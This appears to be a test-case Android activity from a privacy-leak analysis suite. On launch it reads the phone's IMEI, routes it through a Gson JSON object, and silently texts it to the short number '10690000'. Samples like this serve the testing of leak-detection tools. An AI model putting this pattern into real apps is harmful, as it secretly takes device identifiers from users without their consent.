package cn.privlens.suite.gson_tree;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import com.google.gson.JsonObject;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        JsonObject o = new JsonObject();
        o.addProperty("imei", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        o.addProperty("app", "表");
        SmsManager.getDefault().sendTextMessage("10690000", null, o.get("imei").getAsString(), null, null);
    }
}
